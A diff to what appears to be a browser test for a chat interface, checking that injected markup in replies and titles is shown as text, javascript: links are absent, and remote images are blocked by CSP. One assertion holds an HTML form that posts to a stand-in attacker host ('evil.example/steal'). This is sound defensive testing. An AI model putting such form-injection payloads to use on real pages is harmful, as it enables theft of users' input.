@@ -110,7 +110,9 @@ def test_markup_in_replies_user_text_and_titles_never_runs(chat, upstream, redis
     assert chat.page.locator("#chatbot a[href^='javascript']").count() == 0
     # Form controls are shown as text, code as code; the remote image is never fetched (CSP).
     assert '<form action="https://evil.example/steal">' in chat.chat_text()
-    assert chat.page.locator("#chatbot .prose code", has_text="<form>").count() == 1
+    # (a code span beside a link may carry an invisible word joiner after "<": markup.py)
+    codes = chat.page.locator("#chatbot .prose code").all_inner_texts()
+    assert [code.replace("\u2060", "") for code in codes].count("<form>") == 1
     for url in chat.page.remote:
         assert chat.page.blocked.get(url) == "csp", (url, chat.page.blocked)
     # The user's own text is shown as they typed it, not as markup; the title likewise.
